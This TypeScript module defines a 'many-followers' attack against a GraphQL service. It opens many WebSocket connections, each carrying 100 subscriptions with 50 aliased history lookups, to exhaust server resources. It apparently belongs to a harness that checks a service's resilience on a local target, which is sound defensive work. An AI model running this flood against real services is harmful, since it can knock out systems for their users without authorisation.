import { setTimeout as sleep } from 'node:timers/promises';
import { WebSocket } from 'ws';
import type { Attack } from '../attack.js';
import { ATTACKER_KEY } from '../callers.js';
import { aliased, submitMany } from '../requests.js';
import { inParallel, type Target } from '../target.js';

const SUBSCRIPTIONS = 100;
const ALIASES = 50;

export const manyFollowers: Attack = {
  name: 'many-followers',
  shows: '2,000 subscriptions that each look up 50 histories at every change',
  run: async (target) => {
    const fields = aliased(ALIASES, () => 'history { version status at source note }');
    const query = `subscription { jobsUpdated { id ${fields} } }`;
    const sockets = await inParallel(target.pick(20, 4), 4, () => follower(target, query));
    await submitMany(target, target.pick(20, 4));
    await sleep(target.pick(20_000, 2000));
    for (const socket of sockets) socket.terminate();
    return [];
  },
};

/** A socket with as many subscriptions as it may have. */
async function follower({ url }: Target, query: string): Promise<WebSocket> {
  const socket = new WebSocket(`${url.replace(/^http/, 'ws')}/graphql`, 'graphql-transport-ws', {
    localAddress: '127.0.0.2',
  });
  socket.on('error', () => {});
  const say = (message: unknown): void => socket.send(JSON.stringify(message));
  await new Promise<void>((resolve) => {
    socket.once('open', () =>
      say({ type: 'connection_init', payload: { authorization: `Bearer ${ATTACKER_KEY}` } }),
    );
    socket.once('message', () => resolve());
    socket.once('close', () => resolve());
  });
  for (let i = 0; i < SUBSCRIPTIONS; i += 1) say({ type: 'subscribe', id: String(i), payload: { query } });
  return socket;
}
